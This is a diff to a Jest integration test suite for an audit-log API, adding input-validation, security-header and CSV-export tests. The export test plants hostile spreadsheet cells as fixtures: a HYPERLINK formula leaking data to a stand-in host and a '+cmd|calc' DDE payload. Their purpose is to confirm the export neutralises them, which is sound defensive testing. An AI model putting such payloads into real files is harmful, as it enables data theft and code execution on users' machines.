@@ -24,7 +24,8 @@ describe('exploration and export (real PostgreSQL)', () => {
   async function boot(operator: OperatorOptions): Promise<INestApplication> {
     const moduleRef = await Test.createTestingModule({
       imports: [
-        TypeOrmModule.forRoot({ type: 'postgres', url: db.url }),
+        // No reconnect loop: a boot meant to fail must not keep retrying (and logging) after its test.
+        TypeOrmModule.forRoot({ type: 'postgres', url: db.url, retryAttempts: 0 }),
         ThreadlineCaptureModule.forRoot({ tables: { people: { mask: ['email'] } } }),
         ThreadlineActorModule.forRoot({}),
         ThreadlineHealthModule.forRoot({}),
@@ -65,7 +66,10 @@ describe('exploration and export (real PostgreSQL)', () => {
     [{ correlationId: '   ' }, 'correlationId must not be blank'],
     [{ correlationId: 'x'.repeat(257) }, 'correlationId must be at most 256 bytes'],
     [{ from: '2026-02-01', to: '2026-01-01' }, 'from (2026-02-01) is after to (2026-01-01)'],
-    [{ from: 'last tuesday' }, 'from must be a date or ISO 8601 timestamp (got "last tuesday")'],
+    [
+      { from: 'last tuesday' },
+      'from must be an ISO 8601 date or timestamp such as 2026-01-31 or 2026-01-31T23:59:59Z (got "last tuesday")',
+    ],
     [{ actorRef: 'robot:1' }, 'actorRef: Invalid actor (unknown_actor_type)'],
   ])('rejects the filter %j in timeline and export alike', async (filters, message) => {
     await expect(queries.timeline(filters as never)).rejects.toThrow(InvalidFilterError);
@@ -158,13 +162,89 @@ describe('exploration and export (real PostgreSQL)', () => {
       ['/audit/export?format=xml', 'format must be one of the following values: csv, json, ndjson'],
       ['/audit/timeline?limit=0', 'limit must not be less than 1'],
       ['/audit/timeline?bogus=1', 'property bogus should not exist'],
-      ['/audit/timeline?from=yesterday', 'from must be a date or ISO 8601 timestamp (got "yesterday")'],
+      [
+        '/audit/timeline?from=yesterday',
+        'from must be an ISO 8601 date or timestamp such as 2026-01-31 or 2026-01-31T23:59:59Z (got "yesterday")',
+      ],
       ['/audit/export?format=csv&actor=robot:1', 'actorRef: Invalid actor (unknown_actor_type)'],
     ];
     for (const [url, message] of cases) {
       const res = await request(app.getHttpServer()).get(url).set('x-role', 'auditor').expect(400);
       expect([res.body.message].flat().join('\n')).toContain(message);
     }
+  });
+
+  it('answers every bad input with 400 and one body shape, before any byte of an export is sent', async () => {
+    const cursor = (capturedAt: string, id: string) =>
+      Buffer.from(JSON.stringify([capturedAt, id])).toString('base64url');
+    const bad: [string, string][] = [
+      ['from=2026-02-30', 'from must be an ISO 8601 date'],
+      ['from=1', 'from must be an ISO 8601 date'],
+      ['to=+275760-09-13T00:00:00Z', 'to must be an ISO 8601 date'],
+      ['from=2026-01-01T24:00:00Z', 'from must be an ISO 8601 date'],
+      [`cursor=${cursor('2026-02-30T00:00:00Z', '1')}`, 'cursor is not one this API returned'],
+      [`cursor=${cursor('2026-01-01T00:00:00Z', '99999999999999999999')}`, 'cursor is not one this API returned'],
+      ['correlationId=a%00b', 'correlationId must not contain a NUL character'],
+      ['table=people%00', 'table must not contain a NUL character'],
+      ['limit=abc', 'limit must be an integer number'],
+    ];
+    for (const [query, message] of bad) {
+      for (const route of ['/audit/timeline', '/audit/export?format=csv&x=1'.replace('&x=1', '')]) {
+        if (query.startsWith('cursor') || query.startsWith('limit')) if (route.includes('export')) continue;
+        const url = `${route}${route.includes('?') ? '&' : '?'}${query}`;
+        const res = await request(app.getHttpServer()).get(url).set('x-role', 'auditor');
+        expect({ url, status: res.status }).toEqual({ url, status: 400 });
+        expect(res.headers['content-disposition']).toBeUndefined();
+        expect(res.body).toEqual({ statusCode: 400, error: 'Bad Request', message: expect.any(String) });
+        expect(res.body.message).toContain(message);
+      }
+    }
+    // The app still answers.
+    await request(app.getHttpServer()).get('/audit/timeline').set('x-role', 'auditor').expect(200);
+  });
+
+  it('sends protective headers on every route, refusals included', async () => {
+    const server = app.getHttpServer();
+    const responses = [
+      await request(server).get('/audit/timeline').set('x-role', 'auditor').expect(200),
+      await request(server).get('/audit/timeline').set('x-role', 'auditor').set('accept', 'text/html').expect(200),
+      await request(server).get('/audit/export?format=csv').set('x-role', 'auditor').expect(200),
+      await request(server).get('/audit/coverage').set('accept', 'text/html').expect(403),
+      await request(server).get('/audit/timeline?from=1').set('x-role', 'auditor').expect(400),
+    ];
+    for (const res of responses) {
+      expect(res.headers).toMatchObject({
+        'cache-control': 'no-store',
+        'x-frame-options': 'DENY',
+        'x-content-type-options': 'nosniff',
+        'referrer-policy': 'no-referrer',
+      });
+      expect(res.headers['content-security-policy']).toMatch(/default-src 'none'.*frame-ancestors 'none'/);
+    }
+  });
+
+  it('exports hostile cells as text a spreadsheet will not run; JSON keeps the value as it is', async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    await db.query(`CREATE TABLE hostile (id int PRIMARY KEY, name text)`);
+    await db.query(`SELECT threadline_capture('public', 'hostile', 'threadline_audit_hostile', '{}'::jsonb)`);
+    const context = app.get(ThreadlineContext);
+    await context.run({ correlationId: hostile }, () =>
+      context.transaction(ActorRef.user('8'), (m) => m.query(`INSERT INTO hostile VALUES (1, '+cmd|calc')`)),
+    );
+    const csv = await request(app.getHttpServer())
+      .get('/audit/export')
+      .query({ format: 'csv', table: 'hostile' })
+      .set('x-role', 'auditor')
+      .expect(200);
+    const [row]: Record<string, string>[] = parse(csv.text, { columns: true });
+    expect(row.correlation_id).toBe(`'${hostile}`);
+    expect(JSON.parse(row.data_after)).toMatchObject({ name: '+cmd|calc' }); // inside JSON, not at the start of a cell
+    const json = await request(app.getHttpServer())
+      .get('/audit/export')
+      .query({ format: 'json', table: 'hostile' })
+      .set('x-role', 'auditor')
+      .expect(200);
+    expect(json.body.changes[0].transaction.correlation_id).toBe(hostile);
   });
 
   it('fails closed: 403 with no audit data when authorize says no or throws; refuses to mount without authorize', async () => {
